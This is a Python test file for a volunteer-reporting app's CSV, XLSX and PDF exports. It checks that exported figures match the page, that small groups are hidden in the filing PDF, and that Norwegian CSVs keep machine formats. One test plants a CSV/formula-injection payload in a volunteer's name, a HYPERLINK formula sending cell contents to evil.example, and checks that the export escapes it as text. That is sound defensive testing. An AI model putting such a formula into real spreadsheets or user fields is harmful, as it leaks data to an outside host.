"""Exports are exactly the filtered view: parse the CSV, the XLSX and the PDF's text, compare with the page."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.pages import csrf_from

from .conftest import Row, oslo

QUERY = "from=2025-01-01&to=2025-06-30&programme=all"


@pytest.fixture
def acme(company, insert_sessions):
    """Language has 6 volunteers; Mentorship only 2 (a small group the filing PDF must hide)."""
    company_id, manager, staff = company("Acme Ltd", employees=9)
    rows = []
    for n, person in enumerate(staff[:6]):
        for week in range(n + 2):
            rows.append(
                Row("language", person, company_id, oslo("2025-01-06T18:00") + timedelta(days=7 * week + n), 60)
            )
    rows.append(Row("mentorship", staff[6], company_id, oslo("2025-02-03T12:00"), 90))
    rows.append(Row("mentorship", staff[7], company_id, oslo("2025-04-30T23:30"), 45))  # still April in Oslo
    rows.append(Row("language", staff[8], company_id, oslo("2025-03-03T18:00"), 60, status="cancelled"))
    insert_sessions(rows)
    return company_id, manager, rows


def page_figures(page: str) -> dict:
    return {
        name: re.search(rf'id="figure-{name}">([^<]+)<', page).group(1)
        for name in ("hours", "sessions", "volunteers", "participation")
    }


def sections(text: str) -> dict[str, list[list[str]]]:
    found, current = {}, None
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        if row and row[0].startswith("## "):
            current = found.setdefault(row[0][3:], [])
        elif current is not None and row:
            current.append(row)
    return found


def test_csv_equals_the_page(acme, manager_client):
    _, manager, rows = acme
    client = manager_client(manager)
    page = page_figures(client.get(f"/reports?{QUERY}").get_data(as_text=True))
    response = client.get(f"/reports/export.csv?{QUERY}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    parts = sections(response.get_data(as_text=True))
    summary = dict(parts["Summary"][1:])
    assert summary["Verified hours"] == page["hours"] == "29.25"  # 27 language hours + 1.5 + 0.75: no quarter hour lost
    assert summary["Sessions"] == page["sessions"] == "29"
    assert summary["Active volunteers"] == page["volunteers"] == "8"
    assert f"{summary['Participation rate (%)']}%" == page["participation"] == "88.9%"
    months = {row[0]: row for row in parts["By month"][1:]}
    assert months["Apr 2025"][4] == str(
        45 + 60 * sum(1 for r in rows if r.platform == "language" and r.status == "attended" and r.held_at.month == 4)
    )
    assert len(parts["Sessions"]) - 1 == 29  # every counted session, and no cancelled one
    assert {"section", "column", "meaning"} <= set(parts["Column dictionary"][0])


def test_xlsx_equals_the_page(acme, manager_client):
    _, manager, _ = acme
    client = manager_client(manager)
    page = page_figures(client.get(f"/reports?{QUERY}").get_data(as_text=True))
    response = client.get(f"/reports/export.xlsx?{QUERY}")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.get_data()), read_only=True)
    assert book.sheetnames == ["Report", "Volunteers", "Sessions", "Column dictionary"]
    report_rows = [row for row in book["Report"].iter_rows(values_only=True)]
    summary = {
        row[0]: row[1]
        for row in report_rows
        if row and row[0] in ("Verified hours", "Sessions", "Active volunteers", "Participation rate (%)")
    }
    assert f"{summary['Verified hours']:,.2f}" == page["hours"]
    assert str(summary["Sessions"]) == page["sessions"]
    assert str(summary["Active volunteers"]) == page["volunteers"]
    assert f"{summary['Participation rate (%)']}%" == page["participation"]
    assert sum(1 for _ in book["Sessions"].iter_rows(min_row=2)) == 29
    names = [row[0] for row in book["Volunteers"].iter_rows(min_row=2, values_only=True)]
    assert len(names) == 8 and all(name.startswith("Acme Volunteer") for name in names)


def test_pdf_carries_the_figures_and_hides_small_groups(acme, manager_client):
    _, manager, _ = acme
    client = manager_client(manager)
    year = "from=2025-01-01&to=2025-12-31&programme=all"
    page = page_figures(client.get(f"/reports?{year}").get_data(as_text=True))
    response = client.get(f"/reports/export.pdf?{year}")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(response.get_data())).pages)
    flat = " ".join(text.split())
    # February's 4 and April's 1 volunteer are hidden, and the year's total with them: the one April
    # volunteer could otherwise take their own hours and January's from it and find February's.
    assert page["hours"] == "29.25" and "29.25" not in flat
    # 9 colleagues, 8 of them volunteered: "of 9" would say that exactly one did not.
    assert "Participation, of 9" not in flat
    assert "of hidden" not in flat and "Participation" in flat, "a hidden denominator is not named"
    assert "Acme Volunteer" not in flat  # the filing PDF names nobody
    # Mentorship has 2 volunteers: hidden.
    by_programme = flat[flat.index("By programme") : flat.index("Methodology")]
    assert "TEEI Mentorship hidden hidden hidden hidden" in by_programme
    # Language's 27.00 may show, so the year's 29.25 may not (29.25 - 27.00 gives Mentorship away).
    assert "2.25" not in flat and ("TEEI Language 27.00" not in by_programme or "29.25" not in flat)
    for words in (
        "GRI 413-1",
        "GRI 201-1",
        "IRIS+ OI8429",
        "B4SI",
        "ESRS S3-4",
        "SDG 4",
        "SDG 5",
        "Europe/Oslo",
        "Report ID",
        "Methodology",
    ):
        assert words in flat, words


def test_programme_filter_applies_to_every_export(acme, manager_client):
    _, manager, _ = acme
    client = manager_client(manager)
    query = "from=2025-01-01&to=2025-06-30&programme=mentorship"
    page = page_figures(client.get(f"/reports?{query}").get_data(as_text=True))
    summary = dict(sections(client.get(f"/reports/export.csv?{query}").get_data(as_text=True))["Summary"][1:])
    assert summary["Verified hours"] == page["hours"] == "2.25"  # 135 minutes
    assert summary["Sessions"] == page["sessions"] == "2"


def test_a_formula_in_a_name_is_exported_as_text(acme, manager_client, db):
    """A volunteer named like a spreadsheet formula must not become one in the manager's download."""
    _, manager, rows = acme
    formula = '=HYPERLINK("https://evil.example/?"&B2,"Details")'
    with db.write() as conn:
        conn.execute(sa.text("UPDATE users SET name = :n WHERE id = :u"), {"n": formula, "u": rows[0].user_id})
    client = manager_client(manager)

    volunteers = sections(client.get(f"/reports/export.csv?{QUERY}").get_data(as_text=True))["Volunteers"]
    assert ["'" + formula] == [row[0] for row in volunteers if "HYPERLINK" in row[0]]

    book = load_workbook(io.BytesIO(client.get(f"/reports/export.xlsx?{QUERY}").get_data()))
    cells = [row[0] for row in book["Volunteers"].iter_rows(min_row=2) if "HYPERLINK" in str(row[0].value)]
    assert [(cell.value, cell.data_type) for cell in cells] == [(formula, "s")]  # shown as it is, never run


def test_the_crosswalk_hides_what_the_pdf_hides(acme, manager_client):
    """April has one volunteer: the headline hides its totals, and so must the crosswalk."""
    _, manager, _ = acme
    client = manager_client(manager)
    response = client.get("/reports/export.pdf?from=2025-04-01&to=2025-04-30&programme=all")
    flat = " ".join("\n".join(p.extract_text() for p in PdfReader(io.BytesIO(response.get_data())).pages).split())
    assert "hidden Verified hours" in flat
    crosswalk = flat[flat.index("Framework crosswalk") :]
    assert crosswalk.count("totals are hidden") == 6  # GRI 413-1, GRI 201-1, IRIS+, B4SI, ESRS, VSME
    assert "1 colleagues" not in crosswalk and "0.75" not in crosswalk and "hours in company time" not in crosswalk
    assert "SDG 5" in crosswalk  # what names no figure stays


def test_the_csv_keeps_one_machine_format_in_norwegian(company, insert_sessions, manager_client):
    """Issue 47, item 8: a Norwegian reader's CSV has the same machine names and the same figures,
    written the same way (ISO dates, dot decimals, no grouping), as an English reader's; only the
    explanations (the header's notes, the dictionary's meanings) are Norwegian."""
    company_id, manager, staff = company("Acme Ltd", employees=6)
    # Odd minutes, so the totals round and the header carries the rounding note.
    insert_sessions(
        [
            Row("language", person, company_id, oslo(f"2025-{month:02d}-1{n}T18:00"), 41 + 4 * n + month + (n == 0))
            for month in (1, 3, 11)
            for n, person in enumerate(staff)
        ]
    )
    client = manager_client(manager)
    token = csrf_from(client.get("/reports/settings").get_data(as_text=True))
    closed = client.post("/reports/close", data={"period_start": "2025-01-01", "confirmed": "yes", "csrf_token": token})
    assert closed.status_code == 302
    # A correction after the close: the header states the changes since close, with their numbers.
    insert_sessions(
        [Row("language", staff[0], company_id, oslo("2025-06-02T18:00"), 91)], received_at="2099-01-01T00:00:00.000000Z"
    )

    year = "from=2025-01-01&to=2025-12-31&programme=all"
    english = client.get(f"/reports/export.csv?{year}", headers={"Accept-Language": "en"}).get_data(as_text=True)
    norwegian = client.get(f"/reports/export.csv?{year}", headers={"Accept-Language": "nb-NO,nb;q=0.9"})
    norwegian = norwegian.get_data(as_text=True)

    en, nb = sections(english), sections(norwegian)
    assert nb.keys() == en.keys()
    for title in ("Summary", "By programme", "By month", "Volunteers", "Sessions"):
        assert nb[title] == en[title], title
    assert [row[:2] for row in nb["Column dictionary"]] == [row[:2] for row in en["Column dictionary"]]

    def header(text):
        rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
        return {row[0]: row[1] for row in rows[: rows.index([])] if len(row) > 1}

    en_head, nb_head = header(english), header(norwegian)
    assert nb_head.keys() == en_head.keys() and {"Rounding", "Changes since close"} <= nb_head.keys()
    for key in ("Period from", "Period to", "As of", "Report ID", "Time zone", "Programme"):
        assert nb_head[key] == en_head[key], key
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", nb_head["Period from"])
    # The notes are sentences for a person, in their language (a number in one is written as they write it).
    for key in ("Rounding", "Changes since close", "Participation denominator"):
        assert nb_head[key] != en_head[key], key
    for section in ("Summary", "By programme", "By month", "Volunteers"):
        for row in nb[section][1:]:
            for cell in row:
                assert not re.fullmatch(r"[\d\s]+,\d+", cell), f"a Norwegian decimal in {section}: {cell}"
    for row in nb["Sessions"][1:]:
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", row[0]) and re.fullmatch(r"\d+", row[5]), row
    for row in nb["By month"][1:]:
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row[1]) and re.fullmatch(r"\d{4}-\d{2}-\d{2}", row[2]), row
        assert re.fullmatch(r"\d+(\.\d+)?", row[3]), row
